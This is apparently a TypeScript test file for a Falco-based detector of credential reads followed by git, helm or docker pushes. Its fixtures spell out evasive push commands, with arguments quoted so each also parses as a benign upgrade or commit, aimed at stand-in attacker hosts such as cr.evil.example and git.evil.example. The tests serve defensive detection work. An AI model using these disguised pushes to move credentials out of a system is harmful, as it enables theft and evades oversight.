/**
 * A push reading of Falco's unquoted argv that loses the ranking of ../../../src/rules/reading-rank.ts to a
 * benign `key=value` text is an unsure push, not none (found by review): the ranking quieted `helm -n prod upgrade
 * rel ./chart --set-string "msg=helm push …"`, and an attacker mirrored that shape around a real push, `helm
 * --kube-context "prod upgrade" --kube-as-user x=y push chart.tgz oci://ghcr.io/x/y`, which also reads as `helm
 * --kube-context prod upgrade --kube-as-user "x=y push" chart.tgz oci://…`, and was missed. Such a push is judged
 * only once its process (its helpers; for docker, its daemon's linked upload) reached a forge or registry, as a
 * push from a cut argv is.
 */
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { recognizeProcess } from '../../../src/rules/recognize.js';
import { socketFields } from '../../fixtures/falco/argv.js';
import { dockerdSends, falcoRun, falcoView, normFalco, processFields } from '../../fixtures/falco/credential-run.js';
import { falcoAlertText, T0 } from '../../fixtures/falco/events.js';
import { brief, MiB, runResolved } from '../correlate/builder.js';

const GITHUB = '140.82.112.3'; // builder.ts TEST_DNS: github.com, a forge
const GHCR = '140.82.121.33'; // ghcr.io, a registry
/** A kube-apiserver on a public address (a managed cluster's endpoint): classed as nothing. */
const APISERVER = '198.51.100.7';
/** The in-cluster apiserver (its Service address). */
const CLUSTER_APISERVER = '10.96.0.1';
/** A registry known only by a glob (`*.dkr.ecr.*.amazonaws.com`): DNS cannot answer for it ahead. */
const ECR = '123456789012.dkr.ecr.us-east-1.amazonaws.com';
const ECR_IP = '203.0.113.50';
const at = (ms: number) => T0 + BigInt(ms) * 1_000_000n;

/** Real pushes padded to mirror the benign `key=value` text shape: each also reads as its tool's everyday command. */
const MIRRORED: Array<[string, string[], string, string]> = [
  [
    '/usr/bin/helm',
    ['helm', '--kube-context', 'prod upgrade', '--kube-as-user', 'x=y', 'push', 'chart.tgz', 'oci://ghcr.io/x/y'],
    GHCR,
    'ghcr.io',
  ],
  [
    '/usr/bin/git',
    ['git', '-C', 'src commit', '-c', 'x=y', 'push', 'https://github.com/evil/x.git'],
    GITHUB,
    'github.com',
  ],
];
const MIRRORED_DOCKER = ['docker', '--context', 'ci build', '--log-level', 'x=y', 'push', 'ghcr.io/evil/x'];

/** The benign lines the ranking quieted: a value text naming a push, after the real sub-command. */
const HELM_TEXT = [
  'helm',
  '-n',
  'prod',
  'upgrade',
  'rel',
  './chart',
  '--set-string',
  'msg=helm push chart.tgz oci://ghcr.io/x/y',
];
const HELM_OCI_TEXT = [
  'helm',
  '-n',
  'prod',
  'upgrade',
  'rel',
  'oci://ghcr.io/acme/chart',
  '--set-string',
  'msg=helm push chart.tgz oci://ghcr.io/x/y',
];
const DOCKER_TEXT = [
  'docker',
  '--context',
  'ci',
  'buildx',
  'build',
  '--build-arg',
  'NOTE=docker push ghcr.io/x/y',
  '.',
];

/** Falco's alerts for one run of `argv` that reads the AWS credentials, connects to `ip` and sends 3 KiB. */
const run = (exe: string, argv: readonly string[], ip: string | null) => {
  const events = falcoRun(exe, argv, ip ?? GITHUB);
  return ip === null ? events.filter((e) => e.kind !== 'net') : events;
};
const alertsOf = async (events: NormalizedEvent[]) =>
  (await runResolved([...events].sort((a, b) => a.timeMs - b.timeMs))).alerts;

/** `argv0 …` (pid 4200) connecting to `ip`:443 from 1 s on and sending `bytes`. */
function otherProcessSends(exe: string, cmdline: string, ip: string, bytes: number): NormalizedEvent[] {
  const proc = processFields(4200, exe, cmdline);
  return [
    falcoAlertText({
      evtTimeNs: at(1000),
      fields: { ...proc, 'evt.type': 'execve', 'evt.rawres': 0, 'proc.cmdnargs': 2 },
    }),
    falcoAlertText({
      evtTimeNs: at(1020),
      fields: { ...proc, 'evt.type': 'connect', 'evt.rawres': 0, ...socketFields(ip) },
    }),
    falcoAlertText({
      evtTimeNs: at(1040),
      fields: { ...proc, 'evt.type': 'sendto', 'evt.rawres': bytes, ...socketFields(ip) },
    }),
  ]
    .map(normFalco)
    .filter((e): e is NormalizedEvent => e !== null);
}

const upload = Array.from({ length: 4 }, () => MiB);
// A pull's requests: a manifest and 12 layers fetched, 2 KiB of headers and token each.
const pull = Array.from({ length: 13 }, () => 2048);

describe('a push reading that loses the ranking', () => {
  it('is recognised as an unsure push, the mirrored evasion and the benign text alike', () => {
    for (const [exe, argv] of [...MIRRORED, ['/usr/bin/helm', HELM_TEXT] as const]) {
      const r = recognizeProcess(falcoView(exe, argv), () => false);
      expect(r?.kind === 'push' ? [r.tool, r.remote, r.argvOutranked] : r, argv.join(' ')).toEqual([
        argv[0],
        exe.endsWith('git') ? argv[argv.length - 1] : 'oci://ghcr.io/x/y',
        true,
      ]);
    }
  });

  it('alerts when the mirrored push connects to its forge or registry', async () => {
    for (const [exe, argv, ip, destination] of MIRRORED) {
      const alerts = await alertsOf(run(exe, argv, ip));
      expect(brief(alerts), argv.join(' ')).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: argv[0], destination },
      ]);
      expect(alerts[0]?.push.remote, argv.join(' ')).toBe(argv[argv.length - 1]);
      expect(alerts[0]?.evidence[0]?.detail, argv.join(' ')).toContain('a likelier reading is no push');
    }
  });

  it('raises nothing while it reaches no forge or registry (the kube-apiserver, or nowhere)', async () => {
    for (const [exe, argv] of [...MIRRORED, ['/usr/bin/helm', HELM_TEXT] as const]) {
      expect(await alertsOf(run(exe, argv, APISERVER)), argv.join(' ')).toEqual([]);
      expect(await alertsOf(run(exe, argv, null)), argv.join(' ')).toEqual([]);
    }
  });

  it('counts an address its own words class only where nothing else can: a public one of a glob-known registry', async () => {
    // The mirrored push to ECR: DNS has no answers for its host, so the address its argv names is all there is.
    const toEcr = [
      'helm',
      '--kube-context',
      'prod upgrade',
      '--kube-as-user',
      'x=y',
      'push',
      'c.tgz',
      `oci://${ECR}/x`,
    ];
    expect(brief(await alertsOf(run('/usr/bin/helm', toEcr, ECR_IP)))).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'helm', destination: ECR },
    ]);
    // Not a private address (an in-cluster apiserver), nor an address not among DNS's for a host it answered.
    const ecrText = [...HELM_TEXT.slice(0, -1), `msg=helm push chart.tgz oci://${ECR}/x`];
    for (const argv of [toEcr, ecrText])
      expect(await alertsOf(run('/usr/bin/helm', argv, CLUSTER_APISERVER)), argv.join(' ')).toEqual([]);
    expect(await alertsOf(run('/usr/bin/helm', HELM_TEXT, APISERVER))).toEqual([]);
  });

  it("alerts when the mirrored push reaches a public address of a host nothing classes (the attacker's own)", async () => {
    // Found by review: a push to a registry or forge no class knows was a push plainly, and missed mirrored.
    const EVIL_IP = '198.51.100.9';
    const mirrored: Array<[string, string[], string]> = [
      [
        '/usr/bin/helm',
        ['helm', '--kube-context', 'prod upgrade', '--kube-as-user', 'x=y', 'push', 'c.tgz', 'oci://cr.evil.example/x'],
        'cr.evil.example',
      ],
      [
        '/usr/bin/git',
        ['git', '-C', 'src commit', '-c', 'x=y', 'push', 'https://git.evil.example/x.git'],
        'git.evil.example',
      ],
    ];
    for (const [exe, argv, destination] of mirrored) {
      expect(brief(await alertsOf(run(exe, argv, EVIL_IP))), argv.join(' ')).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: argv[0], destination },
      ]);
      // An in-cluster address is the apiserver's as much as a registry's.
      expect(await alertsOf(run(exe, argv, CLUSTER_APISERVER)), argv.join(' ')).toEqual([]);
    }
    // The benign text naming such a host while its helm talks to the in-cluster apiserver stays quiet.
    const text = [...HELM_TEXT.slice(0, -1), 'msg=helm push chart.tgz oci://cr.acme.example/x'];
    expect(await alertsOf(run('/usr/bin/helm', text, CLUSTER_APISERVER))).toEqual([]);
  });

  it('teaches nothing: the address it connected to is not taken for the host its reading named', async () => {
    // Taught as ghcr.io, the apiserver's address would make a `kubectl apply` of a big manifest a push by egress.
    const kubectl = otherProcessSends('/usr/bin/kubectl', 'kubectl apply -f big.yaml', APISERVER, 2 * MiB);
    expect(await alertsOf([...run('/usr/bin/helm', HELM_TEXT, APISERVER), ...kubectl])).toEqual([]);
  });

  it('alerts for the benign text too when its helm talks to a registry (the mirrored shape’s cost)', async () => {
    // helm's own connection is all Falco shows of it (Go writes to sockets, traced only with base_syscalls.all),
    // and a chart pulled and a small chart pushed both send a few KiB: the evasion's own benign reading is
    // `helm upgrade chart.tgz oci://ghcr.io/x/y`, a pull from that very registry. Quieting this would reopen it.
    for (const argv of [HELM_TEXT, HELM_OCI_TEXT]) {
      expect(brief(await alertsOf(run('/usr/bin/helm', argv, GHCR))), argv.join(' ')).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'helm', destination: 'ghcr.io' },
      ]);
    }
    // And a text naming a glob-known registry, its helm talking to a public apiserver: nothing tells that address
    // from the registry's (the ECR push above).
    const ecrText = [...HELM_TEXT.slice(0, -1), `msg=helm push chart.tgz oci://${ECR}/x`];
    expect(brief(await alertsOf(run('/usr/bin/helm', ecrText, APISERVER)))).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'helm', destination: ECR },
    ]);
  });
});

describe('a docker push reading that loses the ranking', () => {
  it('is judged by its daemon’s linked upload, never by the CLI’s own connections', async () => {
    const cli = (argv: readonly string[], ip: string | null) => run('/usr/bin/docker', argv, ip);
    // The CLI hands the image to its daemon: its own connections say nothing of a registry upload.
    expect(await alertsOf(cli(DOCKER_TEXT, GHCR))).toEqual([]);
    expect(await alertsOf(cli(MIRRORED_DOCKER, GHCR))).toEqual([]);
    // A build's daemon pulling base images sends only requests, under egressPushMinBytes.
    expect(await alertsOf([...cli(DOCKER_TEXT, null), ...dockerdSends(GHCR, pull)])).toEqual([]);
    expect(await alertsOf([...cli(MIRRORED_DOCKER, null), ...dockerdSends(GHCR, pull)])).toEqual([]);
    // The daemon's upload to a registry, linked to the mirrored push: an alert.
    const alerts = await alertsOf([...cli(MIRRORED_DOCKER, null), ...dockerdSends(GHCR, upload)]);
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'docker', destination: 'ghcr.io' },
    ]);
    expect(alerts[0]?.push.remote).toBe('ghcr.io/evil/x');
  });
});
